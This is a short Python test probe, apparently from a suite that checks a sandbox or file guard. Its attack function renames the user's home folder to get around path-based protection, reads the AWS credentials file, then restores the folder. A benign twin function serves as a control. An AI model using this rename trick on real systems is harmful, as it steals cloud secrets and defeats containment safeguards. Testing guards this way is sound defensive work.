"""P4: rename the folder above the folder of the credentials, then read."""

from attempt import World, run


def attack(world: World) -> str:
    moved = world.home.with_name(world.home.name + "-moved")
    world.home.rename(moved)
    try:
        return (moved / ".aws" / "credentials").read_text()
    finally:
        moved.rename(world.home)


def twin(world: World) -> str:
    outer = world.workspace / "outer"
    (outer / "inner").mkdir(parents=True, exist_ok=True)
    (outer / "inner" / "x").write_text("x")
    moved = world.workspace / "outer-moved"
    outer.rename(moved)
    text = (moved / "inner" / "x").read_text()
    moved.rename(outer)
    return text


run("P4", attack, twin)
